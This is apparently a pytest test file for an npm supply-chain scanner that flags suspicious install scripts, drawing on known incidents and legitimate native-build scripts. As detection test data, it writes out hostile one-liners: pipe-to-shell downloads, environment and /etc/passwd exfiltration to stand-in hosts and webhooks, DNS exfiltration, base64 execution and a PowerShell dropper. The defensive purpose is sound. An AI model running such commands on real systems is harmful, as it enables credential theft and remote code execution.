"""install-script and install-script-suspicious: incidents, real native-build scripts, approvals."""

from __future__ import annotations

import json
from dataclasses import replace

import pytest
from rule_facts import FIXTURES, check, context, for_facts, load, locked, run_engine, tarball, tree

from npmguard.facts import FactsStatus, ManifestFacts, Need, PackageFacts, VersionInfo
from npmguard.model import Level, Verdict
from npmguard.rules.base import ProjectInfo
from npmguard.rules.scripts import (
    InstallScript,
    SuspiciousInstallScript,
    install_time_texts,
    scan_text,
)


def _native() -> dict[str, dict[str, object]]:
    loaded: dict[str, dict[str, object]] = json.loads(
        (FIXTURES / "native-install-scripts.json").read_text(encoding="utf-8")
    )
    return loaded


def native_facts(key: str, doc: dict[str, object]) -> PackageFacts:
    name, version = key.rsplit("@", 1)
    scripts = dict(doc["scripts"])  # type: ignore[call-overload]
    texts = {"package.json": json.dumps({"name": name, "version": version, "scripts": scripts})}
    texts.update(doc["texts"])  # type: ignore[call-overload]
    files = list(texts) + (["binding.gyp"] if doc["gyp"] else [])
    return PackageFacts(
        name=name,
        version=version,
        status=FactsStatus.KNOWN,
        manifest=ManifestFacts(scripts=scripts, gyp_file=bool(doc["gyp"])),
        tarball=tarball(files, texts),
    )


def pkg_with_script(
    script: str, texts: dict[str, str] | None = None, name: str = "probe"
) -> PackageFacts:
    manifest = {"name": name, "version": "1.0.0", "scripts": {"preinstall": script}}
    all_texts = {"package.json": json.dumps(manifest), **(texts or {})}
    return PackageFacts(
        name=name,
        version="1.0.0",
        status=FactsStatus.KNOWN,
        manifest=ManifestFacts(scripts={"preinstall": script}),
        tarball=tarball(all_texts, all_texts),
    )


# --- incidents ---------------------------------------------------------------------------------


def test_ua_parser_js_preinstall_blocks_with_excerpts() -> None:
    findings = check(SuspiciousInstallScript, load("ua-parser-js-0.7.29"))
    assert len(findings) == 1
    f = findings[0]
    assert f.level == Level.BLOCK
    ids = {e.label.split(":")[0] for e in f.evidence}
    assert {"download-run", "raw-ip-url", "windows-download"} <= ids
    where = {e.source for e in f.evidence}
    assert {"preinstall.sh", "preinstall.bat"} <= where  # followed from preinstall.js
    run = next(e for e in f.evidence if e.label.startswith("download-run"))
    assert "159.148.186.228" in run.value
    assert "ua-parser-js@0.7.28 has no install script" in f.hint


@pytest.mark.parametrize("name", ["coa-2.0.3", "rc-1.2.9"])
def test_coa_rc_compile_bat_dropper_blocks(name: str) -> None:
    findings = check(SuspiciousInstallScript, load(name))
    assert len(findings) == 1
    ev = [e for e in findings[0].evidence if e.label.startswith("windows-download")]
    assert ev and ev[0].source == "compile.bat" and "certutil" in ev[0].value


def test_shai_hulud_bundle_blocks_on_webhook_site_and_env() -> None:
    findings = check(SuspiciousInstallScript, load("tinycolor-4.1.1"))
    assert len(findings) == 1
    by_id = {e.label.split(":")[0]: e for e in findings[0].evidence}
    assert "webhook.site/bb8ca5f6" in by_id["out-of-band-host"].value
    assert "process.env" in by_id["env-serialised"].value
    assert by_id["out-of-band-host"].source == "bundle.js"


def test_handmade_curl_env_preinstall_blocks() -> None:
    facts = pkg_with_script('curl -d "$(env)" https://x1y2z3.oastify.com/`whoami`')
    findings = check(SuspiciousInstallScript, facts)
    ids = {e.label.split(":")[0] for e in findings[0].evidence}
    assert {"env-shell-exfil", "out-of-band-host"} <= ids
    assert all(e.source == "scripts.preinstall" for e in findings[0].evidence)


def test_dependency_confusion_probe_blocks() -> None:
    """A classic dependency-confusion probe: host details sent to an interaction-capture host,
    as a DNS lookup and an HTTPS request (see the fixture's note for its origin)."""
    doc = json.loads((FIXTURES / "depconf-probe.json").read_text(encoding="utf-8"))
    manifest = json.loads(doc["texts"]["package.json"])
    facts = PackageFacts(
        name=doc["name"],
        version=doc["version"],
        status=FactsStatus.KNOWN,
        manifest=ManifestFacts(scripts=manifest["scripts"]),
        tarball=tarball(doc["files"], doc["texts"]),
    )
    findings = check(SuspiciousInstallScript, facts)
    assert len(findings) == 1 and findings[0].level == Level.BLOCK
    ids = {e.label.split(":")[0] for e in findings[0].evidence}
    assert {"host-recon-send", "out-of-band-host"} <= ids
    assert all(e.source == "index.js" for e in findings[0].evidence)


@pytest.mark.parametrize(
    ("script", "pattern"),
    [
        ("curl -fsSL https://evil.example/i.sh | bash", "pipe-to-shell"),
        ("wget -qO- http://evil.example/x | sudo sh", "pipe-to-shell"),
        ('bash -c "$(curl -fsSL https://evil.example/x)"', "pipe-to-shell"),
        ("echo aGVsbG8= | base64 -d | sh", "base64-exec"),
        ("const env = JSON['stringify'](process['env']);", "env-serialised"),
        ("post(JSON.stringify({ ...process.env }))", "env-serialised"),
        ("var all = JSON.stringify(process);", "env-serialised"),
        ("node -e \"eval(Buffer.from('Y29uc29sZQ==','base64').toString())\"", "base64-exec"),
        ("env | curl -X POST --data-binary @- https://collect.example", "env-shell-exfil"),
        ("nslookup $(whoami).$(hostname).d3adb33f.dnslog.cn", "dns-exfil"),
        ("curl https://discord.com/api/webhooks/123/abc -d @/etc/passwd", "out-of-band-host"),
        (
            'powershell -c "iwr http://x.example/a.exe -OutFile a.exe; Start-Process a.exe"',
            "windows-download",
        ),
    ],
)
def test_patterns(script: str, pattern: str) -> None:
    assert pattern in {p.id for p, _ in scan_text(script)}


# --- legitimate install scripts ----------------------------------------------------------------


@pytest.mark.parametrize(
    "script",
    [
        "node-gyp rebuild",
        "prebuild-install || node-gyp rebuild",
        "node-gyp-build",
        "node install.js",
        "husky install",
        "patch-package",
        "opencollective-postinstall || exit 0",
        "node -e \"try{require('./postinstall')}catch(e){}\"",
        "node scripts/postinstall.js && echo done",
    ],
)
def test_common_install_commands_are_not_suspicious(script: str) -> None:
    assert scan_text(script) == []


def test_real_native_build_scripts_are_not_suspicious_and_only_warn() -> None:
    native = _native()
    assert len(native) >= 15
    facts = [native_facts(k, v) for k, v in native.items()]
    assert check(SuspiciousInstallScript, facts) == []
    listed = check(InstallScript, facts)
    with_scripts = {
        f.key for f in facts if f.manifest and (f.manifest.scripts or f.manifest.gyp_file)
    }
    assert {f.key for f in listed} == with_scripts
    assert {f.level for f in listed} == {Level.WARN}


def test_install_time_texts_follow_named_files() -> None:
    texts = {
        "install.js": "require('child_process').exec('sh ./helper.sh')",
        "helper.sh": "echo hi",
        "index.js": "module.exports = 1",
    }
    got = install_time_texts({"postinstall": "node install"}, texts)
    assert list(got) == ["install.js", "helper.sh"]


# --- install-script: sources and approvals -----------------------------------------------------


def test_install_script_evidence_is_the_script_text() -> None:
    facts = pkg_with_script("node build.js")
    f = check(InstallScript, facts)[0]
    assert f.level == Level.WARN
    assert (f.evidence[0].label, f.evidence[0].value, f.evidence[0].source) == (
        "script preinstall",
        "node build.js",
        "tarball",
    )
    assert '"allowScripts": {"probe@1.0.0": true}' in f.hint
    assert 'rules = ["install-script"]' in f.hint


def test_implicit_node_gyp_rebuild() -> None:
    facts = PackageFacts(name="native", version="1.0.0", manifest=ManifestFacts(gyp_file=True))
    f = check(InstallScript, facts)[0]
    assert "node-gyp rebuild (implicit" in f.evidence[0].value


def test_lockfile_has_install_script_without_facts() -> None:
    lockfile = tree(locked("x", "1.0.0", has_install_script=True))
    f = next(iter(InstallScript().check(context(lockfile, {}))))
    assert "hasInstallScript" in f.evidence[0].value and f.evidence[0].source == "lockfile"


def test_a_bundled_entry_is_reported_from_the_lockfile_not_the_registry_copy() -> None:
    # npm runs a bundled package's scripts; the registry's copy of the name@version (here
    # without scripts) says nothing about the bytes the parent's tarball carries
    lockfile = tree(locked("x", "1.0.0", has_install_script=True, bundled=True))
    clean = PackageFacts(name="x", version="1.0.0", manifest=ManifestFacts())
    found = list(InstallScript().check(context(lockfile, {"x@1.0.0": clean})))
    assert [f.evidence[0].source for f in found] == ["lockfile"]
    assert "cannot approve" in found[0].hint and "rebuild-bundle=false" in found[0].hint


def _bundler(bundled_script: str) -> PackageFacts:
    facts = pkg_with_script("node build.js", name="bundler2")
    assert facts.tarball is not None
    bundled = {"node_modules/plain-pkg": {"postinstall": bundled_script}}
    return replace(facts, tarball=replace(facts.tarball, bundled_scripts=bundled))


def test_bundled_scripts_are_reported_on_the_parent_whatever_allow_scripts_says() -> None:
    facts = _bundler("node setup.js")
    for allow in ({}, {"bundler2": True}, {"bundler2": False}):
        found = check(InstallScript, facts, allow_scripts=allow)
        assert [f.level for f in found] == [Level.WARN], allow
        labels = [e.label for e in found[0].evidence]
        assert "bundled node_modules/plain-pkg script postinstall" in labels
        assert ("script preinstall" in labels) is (allow != {"bundler2": True})
        assert "rebuild-bundle=false" in found[0].hint


def test_a_hostile_bundled_script_blocks_the_parent() -> None:
    facts = _bundler("curl http://203.0.113.7/x.sh | sh")
    found = check(SuspiciousInstallScript, facts)
    assert [f.level for f in found] == [Level.BLOCK]
    hit = next(e for e in found[0].evidence if e.label.startswith("pipe-to-shell"))
    assert hit.source == "node_modules/plain-pkg: scripts.postinstall"
    assert "has no install script" not in found[0].hint  # versions know nothing of bundles
    assert check(SuspiciousInstallScript, _bundler("node-gyp rebuild")) == []


@pytest.mark.parametrize(
    ("allow", "expected"),
    [
        ({"probe": True}, None),
        ({"probe@1.0.0": True}, None),
        ({"probe@1.0.0 || 1.0.1": True}, None),
        ({"probe@^1.0.0": True}, Level.WARN),  # ranges are not approvals (npm refuses them)
        ({"probe@2.0.0": True}, Level.WARN),
        ({"other": True}, Level.WARN),
        ({"probe": False}, Level.INFO),  # npm will not run it
        ({"probe": True, "probe@1.0.0": False}, Level.INFO),  # false wins
    ],
)
def test_allow_scripts_approvals(allow: dict[str, bool], expected: Level | None) -> None:
    facts = pkg_with_script("node build.js")
    found = check(InstallScript, facts, allow_scripts=allow)
    assert [f.level for f in found] == ([] if expected is None else [expected])


def test_through_the_engine_with_allow_scripts_and_tarball_need() -> None:
    evil = load("ua-parser-js-0.7.29")
    good = native_facts("esbuild@0.28.2", _native()["esbuild@0.28.2"])
    lockfile = tree(for_facts(evil), for_facts(good))
    report, source = run_engine(
        lockfile,
        {evil.key: evil, good.key: good},
        ("install-script", "install-script-suspicious"),
        project=ProjectInfo(allow_scripts={"esbuild": True}),
    )
    assert Need.TARBALL in source.asked[0]
    verdicts = {v.package.name: v.verdict for v in report.packages}
    assert verdicts == {"ua-parser-js": Verdict.BLOCK, "esbuild": Verdict.OK}
    assert report.verdict is Verdict.BLOCK


def test_suspicious_hint_names_a_version_without_install_script() -> None:
    facts = pkg_with_script("curl https://x.example/a | sh")
    facts = replace(
        facts,
        versions=(
            VersionInfo("0.9.0", has_install_script=False),
            VersionInfo("1.0.0", has_install_script=True),
        ),
    )
    f = check(SuspiciousInstallScript, facts)[0]
    assert "probe@0.9.0 has no install script" in f.hint


def test_binding_gyp_with_gypfile_false_runs_nothing() -> None:
    texts = {"package.json": json.dumps({"name": "n", "version": "1.0.0", "gypfile": False})}
    off = PackageFacts(name="n", version="1.0.0", tarball=tarball(["binding.gyp"], texts))
    assert check(InstallScript, off) == []
    texts = {"package.json": json.dumps({"name": "n", "version": "1.0.0"})}
    on = PackageFacts(name="n", version="1.0.0", tarball=tarball(["binding.gyp"], texts))
    assert "node-gyp rebuild (implicit" in check(InstallScript, on)[0].evidence[0].value


# --- the scan stored with the tarball's facts (issue 15) ---------------------------------------

_INCIDENTS = ["ua-parser-js-0.7.29", "coa-2.0.3", "rc-1.2.9", "tinycolor-4.1.1"]


def _stored(facts: PackageFacts) -> PackageFacts:
    """``facts`` as a warm run reads them: the tarball through the store's codec."""
    from npmguard.reputation import codec

    assert facts.tarball is not None
    return replace(facts, tarball=codec.decode_tarball(codec.encode_tarball(facts.tarball)))


@pytest.mark.parametrize("name", _INCIDENTS)
def test_stored_scan_gives_the_same_findings_as_a_scan_now(name: str) -> None:
    facts = load(name)
    stored = _stored(facts)
    assert stored.tarball is not None and stored.tarball.install_scan  # the scan was kept
    assert stored.tarball == facts.tarball  # the scan takes no part in equality
    now = check(SuspiciousInstallScript, facts)
    assert check(SuspiciousInstallScript, stored) == now
    assert now  # these are real incidents: they block


def test_a_stored_scan_is_what_the_rule_reports() -> None:
    from npmguard.facts import ScanHit

    facts = pkg_with_script("node build.js")
    assert facts.tarball is not None
    planted = ScanHit("pipe-to-shell", "planted", "stored excerpt", "scripts.preinstall")
    stored = replace(facts, tarball=replace(facts.tarball, install_scan=(planted,)))
    assert check(SuspiciousInstallScript, facts) == []
    (finding,) = check(SuspiciousInstallScript, stored)
    assert [e.value for e in finding.evidence] == ["stored excerpt"]


def test_a_scan_stored_by_another_scanner_is_not_used(monkeypatch: pytest.MonkeyPatch) -> None:
    from npmguard import scriptscan
    from npmguard.reputation import codec

    facts = load("ua-parser-js-0.7.29")
    assert facts.tarball is not None
    blob = codec.encode_tarball(facts.tarball)
    monkeypatch.setattr(scriptscan, "scanner_key", lambda: "another scanner")
    monkeypatch.setattr(codec, "scanner_key", lambda: "another scanner")
    read = codec.decode_tarball(blob)
    assert read.install_scan is None
    assert check(SuspiciousInstallScript, replace(facts, tarball=read)) == check(
        SuspiciousInstallScript, facts
    )


def test_scanner_key_follows_the_patterns_and_the_code() -> None:
    from npmguard import scriptscan

    key = scriptscan.scanner_key()
    assert len(key) == 32 and key == scriptscan.scanner_key()
    digest = __import__("hashlib").sha256()
    scriptscan._code_digest(scriptscan.scan_text.__code__, digest)
    other = __import__("hashlib").sha256()
    scriptscan._code_digest(scriptscan.install_time_texts.__code__, other)
    assert digest.hexdigest() != other.hexdigest()


def test_lockfile_placeholder_scripts_are_scanned_now_not_from_the_store() -> None:
    from npmguard.facts import ScanHit

    # the tarball declares no install script, the lockfile says there is one: the placeholder
    # text is what the rule reads, not the tarball's (empty) scan
    facts = PackageFacts(
        name="probe",
        version="1.0.0",
        status=FactsStatus.KNOWN,
        tarball=tarball(["package.json"], {"package.json": "{}"}),
    )
    assert facts.tarball is not None
    planted = ScanHit("pipe-to-shell", "planted", "never used", "scripts.install")
    stored = replace(facts, tarball=replace(facts.tarball, install_scan=(planted,)))
    pkg = replace(for_facts(stored), has_install_script=True)
    found = list(SuspiciousInstallScript().check(context(tree(pkg), {stored.key: stored})))
    assert found == []
